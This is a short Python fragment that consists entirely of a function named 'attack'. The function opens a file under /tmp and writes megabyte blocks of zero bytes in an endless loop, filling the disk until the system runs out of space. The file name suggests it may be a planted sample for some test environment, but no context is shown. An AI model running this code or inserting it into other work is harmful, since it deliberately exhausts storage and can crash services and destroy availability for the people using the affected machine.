def attack():
    kept = open("/tmp/npucamp_planted.py", "wb")
    while True:
        kept.write(bytes(1 << 20))
